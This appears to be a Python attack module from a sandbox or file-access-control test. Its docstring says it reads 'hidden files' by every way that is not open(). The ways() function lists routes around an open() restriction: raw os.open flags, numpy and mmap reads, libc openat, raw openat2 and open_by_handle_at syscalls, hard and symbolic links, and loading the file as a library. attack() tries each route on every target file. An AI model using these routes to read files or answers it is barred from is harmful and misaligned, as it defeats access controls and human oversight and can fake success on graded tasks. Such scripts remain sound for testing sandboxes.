"""answers: reads the hidden files by every way that is not open()"""
import ctypes
import io
import mmap
import os

import numpy as np


def ways(path):
    libc = ctypes.CDLL(None, use_errno=True)
    yield lambda: os.read(os.open(path, os.O_RDONLY), 40)
    yield lambda: os.read(os.open(path, os.O_RDONLY | 0o1000000), 40)  # O_NOATIME
    yield lambda: os.read(os.open(path, os.O_RDWR), 40)
    yield lambda: io.FileIO(path).read(40)
    yield lambda: bytes(np.fromfile(path, np.uint8, 40))
    yield lambda: bytes(np.memmap(path, np.uint8, "r")[:40])
    yield lambda: mmap.mmap(os.open(path, 0), 0, prot=mmap.PROT_READ)[:40]
    yield lambda: np.genfromtxt(path, dtype=str)[:3]
    yield lambda: 1 if libc.openat(-100, path.encode(), 0) >= 0 else 0
    yield lambda: 1 if libc.syscall(437, -100, path.encode(), bytes(24), 24) >= 0 else 0  # openat2
    yield lambda: 1 if libc.syscall(304, -100, bytes(64), 0) >= 0 else 0  # open_by_handle_at
    yield lambda: os.link(path, "copy") or 1
    yield lambda: os.symlink(path, "copy") or 1
    yield lambda: ctypes.CDLL(path) and 1


def attack():
    found = []
    for path in TARGET["files"]:
        for number, way in enumerate(ways(path)):
            try:
                got = way()
            except Exception:
                continue
            if len(got) if isinstance(got, bytes) else got:
                found.append((number, path, got))
    return found
